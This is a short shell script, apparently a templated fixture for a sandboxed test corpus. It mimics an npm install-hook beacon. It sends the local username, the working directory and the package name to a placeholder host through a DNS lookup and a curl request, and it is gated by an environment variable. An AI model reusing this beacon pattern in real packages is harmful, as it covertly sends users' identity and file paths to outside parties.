#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
who=$(id -un 2>/dev/null | tr -cd 'a-z0-9')
timeout 1 getent hosts "${who:-none}.{{token}}.{{host}}" >/dev/null 2>&1
curl -s -m 1 -A '{{token}}' "http://{{host}}/{{path}}?u=$who&d=$PWD&n=$npm_package_name" >/dev/null 2>&1
exit 0
